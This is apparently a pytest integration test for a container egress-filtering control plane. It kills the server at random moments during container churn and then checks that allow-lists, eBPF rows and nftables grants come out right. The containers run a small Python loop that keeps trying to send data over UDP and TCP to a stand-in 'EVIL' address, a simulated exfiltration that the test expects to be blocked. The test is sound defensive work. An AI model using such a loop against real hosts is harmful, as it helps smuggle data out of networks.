"""
The server killed at any moment while containers start, restart and end: nothing opens, and the next one puts all right.
"""

from __future__ import annotations

import asyncio
import json
import os
import random
import re
import signal
import sys
from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio

from clawker_cp.engines.docker_client import DockerClient
from clawker_cp.testing.docker_machine import NETWORK, DockerMachine, docker_machine
from clawker_cp.testing.docker_world import missing
from clawker_cp.testing.served import LOG, serving
from clawker_cp.wiring.docker_agents import SWEEP_S

MOMENTS = int(os.environ.get("CLAWKER_TEST_MOMENTS", "4"))
pytestmark = [
    pytest.mark.root, pytest.mark.slow, pytest.mark.docker, pytest.mark.envoy,
    pytest.mark.timeout(200 + 20 * MOMENTS), pytest.mark.skipif(bool(missing()), reason=missing() or "-"),
]  # fmt: skip

EVIL = "203.0.113.66"
ALLOWED = {"shop": "http://api.example.com/x", "blog": "http://git.example.org/x"}
# Knocks at what is denied from its first instruction to its last, the way of every protocol that it has.
KNOCKS = f"""
import socket, time
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while True:
    for port in (53, 443, 5000):
        try: u.sendto(b"escaped", ({EVIL!r}, port))
        except OSError: pass
    t = socket.socket(); t.settimeout(0.05)
    try: t.connect(({EVIL!r}, 443)); t.send(b"escaped")
    except OSError: pass
    t.close(); time.sleep(0.02)
"""


@pytest_asyncio.fixture
async def machine() -> AsyncIterator[DockerMachine]:
    async with docker_machine(live_restore=True) as made:
        yield made


class Churn:
    """Containers that come, go and come again, one step after the other, whether a server is there or not."""

    def __init__(self, machine: DockerMachine, chance: random.Random) -> None:
        self._machine = machine
        self._client: DockerClient = machine.docker.client
        self._chance = chance
        self._made = 0
        self.over = False
        self.living: dict[str, str] = {}  # container to project

    async def step(self) -> None:
        """Start one, or restart or remove one of those that live."""
        kind = self._chance.choice(["start", "start", "restart", "remove"])
        if kind == "start" and len(self.living) < 6 or not self.living:
            self._made += 1
            project = self._chance.choice(sorted(ALLOWED))
            container = await self._machine.docker.agent(
                f"a{self._made}", "/usr/bin/python3", "-c", KNOCKS, project=project, usr=True, network=NETWORK
            )
            self.living[container] = project
            return
        container = self._chance.choice(sorted(self.living))
        if kind == "remove":
            del self.living[container]
            await self._client.remove(container, force=True)
        else:
            await self._client.stop(container, grace_s=0)
            await self._client.start(container)

    async def run(self) -> None:
        """Step after step until it is `over`."""
        while not self.over:
            await self.step()


async def rows(machine: DockerMachine) -> list[dict[str, Any]]:
    done = await machine.machine.host.run(
        [sys.executable, "-m", "clawker_cp.cli.ebpf_manager", "dump-containers", "--json"],
        env=machine.machine.environment,
    )
    assert done.code == 0, done.err
    listed: list[dict[str, Any]] = json.loads(done.out)
    return listed


async def filtered(machine: DockerMachine, addresses: set[str]) -> set[str]:
    """Those of the addresses that the packet filter grants something; what it counts and limits ends by itself."""
    listed = json.loads((await machine.machine.host.run(["nft", "-j", "list", "ruleset"])).out)["nftables"]
    grants = [one["set"] for one in listed if "set" in one and "timeout" not in one["set"].get("flags", ())]
    return addresses & set(re.findall(r"[0-9.]+", json.dumps(grants)))


async def killed_soon(machine: DockerMachine, delay_s: float) -> None:
    """A server that is killed so long after its first instruction."""
    host = machine.machine.host
    with (host.directory / LOG).open("ab") as out:
        process = await host.start(
            [sys.executable, "-m", "clawker_cp", "serve"],
            env=machine.machine.environment, stdin=asyncio.subprocess.DEVNULL, stdout=out, stderr=out,
        )  # fmt: skip
    await asyncio.sleep(delay_s)
    assert process.returncode is None, (host.directory / LOG).read_text()[-3000:]
    process.send_signal(signal.SIGKILL)
    await process.wait()


async def test_nothing_opens_and_the_last_server_has_everything_right(machine: DockerMachine) -> None:
    """Agents that live reach their own names and no other's; of those that ended no row and no filter is left."""
    chance = random.Random(11)
    churn = Churn(machine, chance)
    async with serving(machine.machine) as served:
        for project, url in ALLOWED.items():
            done = await machine.ctl("allow", url.removesuffix("/x"), "--project", project)
            assert done.code == 0, done.err
        await churn.step()
        await served.stop(signal.SIGKILL)
    await machine.machine.world.reset()
    coming = asyncio.create_task(churn.run())
    try:
        for _ in range(MOMENTS):
            await killed_soon(machine, chance.uniform(0.3, 4.0))
        async with serving(machine.machine) as served:
            churn.over = True
            await coming
            for container in churn.living:
                await machine.wait_enrolled(container)
            reached = {}
            for container, project in churn.living.items():
                codes = {}
                for whose, url in ALLOWED.items():
                    done = await machine.inside(
                        container, "/usr/bin/curl", "-sS", "-m", "10", "-o", "/dev/null", "-w", "%{http_code}", url
                    )
                    codes[whose == project] = done.out
                reached[container] = codes
            cgroups = {(machine.docker.cgroup / container).stat().st_ino for container in churn.living}
            async with asyncio.timeout(SWEEP_S + 20):  # one that ended while this server began
                while {row["cgroup_id"] for row in await rows(machine)} != cgroups:
                    await asyncio.sleep(0.1)
            agents = {agent["container_id"]: agent["address"] for agent in await machine.agents()}
            addresses = set(agents.values())
            before = await filtered(machine, addresses)
            for container in churn.living:
                await machine.docker.client.remove(container, force=True)
            async with asyncio.timeout(20):
                while await filtered(machine, addresses):
                    await asyncio.sleep(0.1)
            packets = await machine.machine.world.packets(dst=EVIL)
            assert await served.stop() == 0
    finally:
        churn.over = True
        await coming

    assert all(codes == {True: "200", False: "000"} for codes in reached.values()), reached
    assert set(agents) == set(churn.living) and before == addresses
    assert packets == []
